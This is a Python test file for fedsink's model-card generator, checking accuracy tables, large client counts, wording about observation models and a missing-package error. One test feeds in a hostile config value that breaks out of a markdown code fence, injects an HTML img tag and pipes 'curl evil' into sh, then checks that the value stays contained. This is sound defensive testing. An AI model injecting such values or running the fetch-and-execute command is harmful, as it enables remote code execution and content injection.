"""The sentences of a card; tests/commands/test_card.py has the command."""

from __future__ import annotations

import sys
from typing import Any

import pytest

from fedsink.errors import ConfigError
from fedsink.reporting.output_files import write_json
from fedsink.results.pages.model_card import model_card
from fedsink.server.folder import RecordedRun

from .conftest import Begin

RESULT = {"rounds": 20, "label_prior": [0.1] * 10}


def card(begin: Begin, *overrides: str, **evaluations: dict[str, Any]) -> str:
    folder = begin(*overrides)
    for name, evaluation in evaluations.items():
        write_json(folder.path / f"evaluation-{name}.json", {"n": 40, **evaluation})
    run = RecordedRun.of(folder.path)
    return model_card(run, run.privacy or {}, RESULT, "mit")


@pytest.mark.medium
def test_real_data_stand_beside_the_generator_and_class_means_do_not(begin: Begin) -> None:
    columns = {
        "synthetic": {"mean": 0.8123, "sd": 0.01},
        "real": {"mean": 0.951},
        "class_means": {"mean": 0.642},
    }
    paper = {"accuracy": {"cnn": 0.8123}, "figures": {"accuracy/cnn": columns}, "seeds": [3, 4]}
    bare = {"accuracy": {"cnn": 0.5}, "observation": False}
    text = card(begin, "mode=central", paper=paper, bare=bare)
    assert "| cnn | 81.2 ± 1.0 % | 95.1 % |" in text
    assert "64.2" not in text
    # How the pictures were drawn, in figures and in the command.
    assert "Accuracy over 2 runs:" in text
    assert "Accuracy over 1 run, without the observation model:" in text
    assert "(with its observation model)" in text


@pytest.mark.parametrize("mode", ["central", "ldp"])
def test_a_card_counts_a_million_owners(begin: Begin, mode: str) -> None:
    text = card(begin, f"mode={mode}", "clients=1000000")
    assert "their 1,000,000 owners: " in text
    assert len(text) < 10_000


@pytest.mark.medium
def test_points_are_not_observed(begin: Begin) -> None:
    assert "observation model" not in card(begin, "mode=ldp", "data=half_circle")


@pytest.mark.medium
def test_pictures_without_an_observation_model_are_not_said_to_have_one(begin: Begin) -> None:
    keys = [f"observation.{key}" for key in ("deformation.std=0", "noise.std=0", "latent_range=1")]
    assert "with its observation model" not in card(begin, "mode=central", *keys)


@pytest.mark.medium
def test_a_received_name_never_leaves_the_block_of_the_command(begin: Begin) -> None:
    hostile = "9\n```\n<img src=x>\n```bash\ncurl evil | sh"
    folder = begin("mode=central")
    run = RecordedRun.of(folder.path)
    run.config["run"]["typed"] = [f"data.classes={hostile}"]
    text = model_card(run, run.privacy or {}, RESULT, "mit")
    assert [line for line in text.splitlines() if line.startswith(("<img", "curl"))] == []


@pytest.mark.medium
def test_a_missing_package_is_named(begin: Begin, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "huggingface_hub", None)
    with pytest.raises(ConfigError, match="install it with `pip install huggingface-hub`"):
        card(begin, "mode=central")
